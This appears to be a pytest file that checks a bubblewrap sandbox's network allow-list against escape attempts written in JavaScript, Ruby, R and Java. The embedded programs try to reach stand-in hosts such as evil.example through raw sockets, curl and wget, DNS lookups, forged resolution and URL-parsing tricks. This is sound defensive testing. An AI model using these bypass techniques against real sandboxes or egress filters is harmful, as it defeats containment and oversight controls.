"""The network of the sandbox, attacked by the own means of other languages; judged outside."""

from __future__ import annotations

import json
import os
import socket
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from playhead.sandbox.bubblewrap import look_for_sandbox
from tests.support.echo_world import LISTED, PUBLIC, REFUSED_NAMES, echo
from tests.support.kernels import report_of, run, text_of
from tests.support.sandboxes import Place

pytestmark = [
    pytest.mark.skipif(sys.platform != "linux", reason="namespaces are Linux's"),
    pytest.mark.slow_group("languages"),
    pytest.mark.requires_system("bwrap"),
]
REACHED = 3
"""How often each program reaches a listed place, which proves that its means are real."""

JAVASCRIPT = r"""
const net = require('net'), dns = require('dns'), dgram = require('dgram'), http = require('http')
const tcp = (told, host, port, more = {}) => new Promise(done => {
  try {
    const ours = net.connect({host, port, ...more})
    ours.setTimeout(5000, () => { ours.destroy(); done('timeout') })
    ours.on('error', e => done(e.code)).on('close', () => done('ended'))
    ours.on('connect', () => ours.write(told))
    ours.on('data', data => { ours.destroy(); done(String(data)) })
  } catch (e) { done(e.code) }
})
const web = async url => {
  try { return await (await fetch(url, {signal: AbortSignal.timeout(5000)})).text() }
  catch (e) { return String(e.cause?.code ?? e.name) }
}
const show = (what, found) => console.log(JSON.stringify([what, found]))
show('good', [await tcp('good', 'api.example', 443), await tcp('good', 'db.example', 5432),
  await web('http://api.example/good')])
for (const [name, port] of ROWS) {
  show([name, port], await tcp('got out', name, port))
  const shown = name.includes(':') ? `[${name}]` : name
  show(['web', name, port], await web(`http://${shown}:${port}/out`))
}
const forged = address => ({lookup: (_, options, then) =>
  options.all ? then(null, [{address, family: 4}]) : then(null, address, 4)})
for (const [address, port] of [['127.0.0.1', OWN], ['PUBLIC', 443], ['127.0.0.1', 443]]) {
  show(['forged', address], await tcp('got out', 'api.example', port, forged(address)))
  show(['forged web', address], await new Promise(done => http
    .get({host: 'api.example', port, path: '/out', ...forged(address)}, a => done(a.statusCode))
    .on('error', e => done(e.code))))
}
for (const url of ['http://api.example@evil.example/out', 'http://evil.example#@api.example/out',
  'http://evil.example\\@api.example/out', `http://api.example:80@127.0.0.1:${OWN}/out`,
  'http://api.example%00.evil.example/out', 'http://①②⑦.1/out', 'http://ａpi.example.evil.example/out'])
  show(url, await web(url))
const resolver = new dns.promises.Resolver({timeout: 500, tries: 1})
for (const server of [`127.0.0.1:${OWN}`, '8.8.8.8:53']) {
  resolver.setServers([server])
  show(['dns', server], await resolver.resolve4('got-out.evil.example').catch(e => e.code))
}
const mail = dgram.createSocket('udp4')
for (const [address, port] of [['127.0.0.1', OWN], ['8.8.8.8', 53], ['api.example', 443]])
  show(['udp', address], await new Promise(done => mail.send('got out', port, address, done))
    .then(e => e?.code ?? 'sent'))
mail.close()
show('abstract', await tcp('got out', undefined, undefined, {path: '\0ABSTRACT'}))
"""

RUBY = r"""
require 'json'; require 'socket'; require 'net/http'; require 'open-uri'
require 'resolv'; require 'timeout'
def told(what) = puts([what, begin
  Timeout.timeout(5) { yield.to_s }
rescue StandardError, Timeout::Error => error
  error.class.name
end].to_json)
def tcp(words, host, port)
  ours = TCPSocket.new(host, port)
  ours.write(words)
  ours.readpartial(100)
ensure
  ours&.close
end
told('good') { tcp('good', 'api.example', 443) }
told('good') { tcp('good', 'db.example', 5432) }
told('good') { Net::HTTP.get(URI('http://api.example/good')) }
ROWS.each do |name, port|
  told([name, port]) { tcp('got out', name, port) }
  told(['web', name, port]) { Net::HTTP.new(name, port).get('/out').body }
  told(['addrinfo', name, port]) { Addrinfo.tcp(name, port).connect { |one| one.write('got out') } }
end
[['127.0.0.1', OWN], ['PUBLIC', 443]].each do |address, port|
  told(['forged', address]) do
    web = Net::HTTP.new('api.example', port)
    web.ipaddr = address
    web.get('/out').body
  end
end
['http://api.example@evil.example/out', "http://api.example:80@127.0.0.1:#{OWN}/out",
 'http://evil.example/out#@api.example'].each { |url| told(url) { URI.parse(url).open.read } }
[['127.0.0.1', OWN], ['8.8.8.8', 53]].each do |server|
  told(['dns', server]) do
    Resolv::DNS.open(nameserver_port: [server]) do |one|
      one.timeouts = 0.5
      one.getaddress('got-out.evil.example')
    end
  end
end
[['127.0.0.1', OWN], ['8.8.8.8', 53], ['api.example', 443]].each do |address, port|
  told(['udp', address]) do
    UDPSocket.new.tap { |one| one.connect(address, port) }.send('got out', 0)
  end
end
told('abstract') { UNIXSocket.new("\0ABSTRACT").write('got out') }
told('raw') { Socket.new(:INET, :RAW, 1) }
"""

R = r"""
told <- function(what, act)
  cat(what, tryCatch(suppressWarnings(act), error = function(e) "refused"), "\n")
tcp <- function(words, host, port) {
  ours <- socketConnection(host, port, open = "r+b", blocking = TRUE, timeout = 5)
  on.exit(close(ours))
  writeBin(charToRaw(words), ours)
  rawToChar(readBin(ours, "raw", nchar(words)))
}
web <- function(address, method) {
  ours <- url(address, method = method)
  on.exit(close(ours))
  paste(readLines(ours), collapse = "")
}
options(timeout = 5)
told("good", tcp("good", "api.example", 443))
told("good", tcp("good", "db.example", 5432))
told("good", web("http://api.example/good", "libcurl"))
for (row in ROWS) {
  told(row$name, tcp("got out", row$name, row$port))
  shown <- if (grepl(":", row$name)) paste0("[", row$name, "]") else row$name
  for (method in c("libcurl", "internal"))
    told(row$name, web(sprintf("http://%s:%d/out", shown, row$port), method))
}
for (address in c("http://api.example@evil.example/out", "http://evil.example#@api.example/out",
                  "http://api.example:80@127.0.0.1:OWN/out", "ftp://evil.example/out"))
  told(address, web(address, "libcurl"))
told("nsl", nsl("got-out.evil.example"))
for (program in c("curl", "wget"))
  told(program, download.file("http://evil.example/out", tempfile(), program, quiet = TRUE))
told("server", {
  ours <- serverSocket(8765)
  close(ours)
  "own"
})
"""

JAVA = r"""
import java.net.*;
import java.net.http.*;
import java.nio.ByteBuffer;
import java.nio.channels.*;
import java.time.Duration;
import java.util.*;
import java.util.concurrent.Callable;
import javax.naming.directory.InitialDirContext;

public class Main {
  static void told(String what, Callable<Object> act) {
    try { System.out.println(what + " " + act.call()); }
    catch (Throwable error) { System.out.println(what + " " + error.getClass().getSimpleName()); }
  }
  static String tcp(String words, SocketAddress where) throws Exception {
    try (var ours = new Socket()) {
      ours.setSoTimeout(5000);
      ours.connect(where, 5000);
      ours.getOutputStream().write(words.getBytes());
      return new String(ours.getInputStream().readNBytes(words.length()));
    }
  }
  static final HttpClient client =
      HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
  static String web(String address) throws Exception {
    var asked = HttpRequest.newBuilder(URI.create(address)).timeout(Duration.ofSeconds(5)).build();
    return client.send(asked, HttpResponse.BodyHandlers.ofString()).body();
  }
  public static void main(String[] arguments) throws Exception {
    told("good", () -> tcp("good", new InetSocketAddress("api.example", 443)));
    told("good", () -> tcp("good", new InetSocketAddress("db.example", 5432)));
    told("good", () -> web("http://api.example/good"));
    Object[][] rows = ROWS;
    for (var row : rows) {
      var name = (String) row[0];
      var port = (int) row[1];
      var shown = name.contains(":") ? "[" + name + "]" : name;
      told(name, () -> tcp("got out", new InetSocketAddress(name, port)));
      told(name, () -> web("http://" + shown + ":" + port + "/out"));
      told(name, () -> {
        try (var channel = SocketChannel.open(new InetSocketAddress(name, port))) {
          return channel.write(ByteBuffer.wrap("got out".getBytes()));
        }
      });
    }
    byte[] own = {127, 0, 0, 1}, open = InetAddress.getByName("PUBLIC").getAddress();
    for (var forged : List.of(own, open))
      for (var port : new int[] {443, OWN})
        told("forged", () -> tcp("got out",
            new InetSocketAddress(InetAddress.getByAddress("api.example", forged), port)));
    for (var address : List.of("http://api.example@evil.example/out",
        "http://evil.example/out#@api.example", "http://api.example:80@127.0.0.1:OWN/out"))
      told(address, () -> new URL(address).openStream().read());
    for (var server : List.of("127.0.0.1:OWN", "8.8.8.8"))
      told("dns", () -> new InitialDirContext(new Hashtable<>(Map.of(
          "java.naming.factory.initial", "com.sun.jndi.dns.DnsContextFactory",
          "java.naming.provider.url", "dns://" + server,
          "com.sun.jndi.dns.timeout.initial", "300", "com.sun.jndi.dns.timeout.retries", "1")))
          .getAttributes("got-out.evil.example", new String[] {"A"}));
    for (var where : List.of(new InetSocketAddress("127.0.0.1", OWN),
        new InetSocketAddress("8.8.8.8", 53), new InetSocketAddress("api.example", 443)))
      told("udp", () -> {
        try (var mail = new DatagramSocket()) {
          mail.connect(where);
          mail.send(new DatagramPacket("got out".getBytes(), 7));
          return "sent";
        }
      });
  }
}
"""


def rows_of_node(rows: list[tuple[str, int]]) -> str:
    """Node.js cuts a name at its first character of the value 0: there it is the listed one."""
    return json.dumps([row for row in rows if "\0" not in row[0]])


def rows_of_r(rows: list[tuple[str, int]]) -> str:
    """R has no characters of the value 0 in a text."""
    items = (f"list(name = {json.dumps(n)}, port = {p})" for n, p in rows if "\0" not in n)
    return f"list({', '.join(items)})"


def rows_of_java(rows: list[tuple[str, int]]) -> str:
    return "{" + ", ".join(f"{{{json.dumps(name)}, {port}}}" for name, port in rows) + "}"


@pytest.mark.parametrize(
    ("language", "program", "written"),
    [
        pytest.param(*row, marks=pytest.mark.requires_system(needs), id=row[0])
        for needs, row in {
            "node": ("javascript", JAVASCRIPT, rows_of_node),
            "ruby": ("ruby", RUBY, json.dumps),
            "Rscript": ("r", R, rows_of_r),
            "java": ("java", JAVA, rows_of_java),
        }.items()
    ],
)
async def test_no_means_of_a_language_gets_past_the_listed_names(
    tmp_path: Path, language: str, program: str, written: Callable[[list[tuple[str, int]]], str]
) -> None:
    found = look_for_sandbox()
    if problem := found.problem or found.lacks_space:
        pytest.skip(f"no sandbox here: {problem}")
    place, name = Place(tmp_path), f"playhead-{os.getpid()}-{language}"
    with (
        echo() as world,
        socket.create_server(("127.0.0.1", 0)) as own,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as mail,
        socket.socket(socket.AF_UNIX) as abstract,
    ):
        port = own.getsockname()[1]
        mail.bind(("127.0.0.1", port))
        abstract.bind(f"\0{name}")
        abstract.listen()
        rows = [(one, at) for one in REFUSED_NAMES for at in (443, port)]
        rows += [("api.example", 22), ("api.example", 8443), ("db.example", 443)]
        code = program.replace("ROWS", written(rows)).replace("OWN", str(port))
        code = code.replace("PUBLIC", PUBLIC).replace("ABSTRACT", name)
        async with place.executor(place.sandbox(outside=world.outside())) as made:
            chunks = await run(made, place.request(code, LISTED, language))
        said = text_of(chunks)
        assert said.count("\n") > len(rows), said
        reached = [one for one in world.heard if b"good" in one]
        assert len(reached) == REACHED, said
        assert [one for one in world.heard if b"good" not in one] == [], said
        refused = {one.target for one in report_of(chunks).refused}
        assert {"evil.example:443", "api.example:8443", f"{PUBLIC}:443"} <= refused
        for ear in (own, mail, abstract):
            ear.setblocking(False)
            with pytest.raises(BlockingIOError):
                ear.recv(10) if ear is mail else ear.accept()
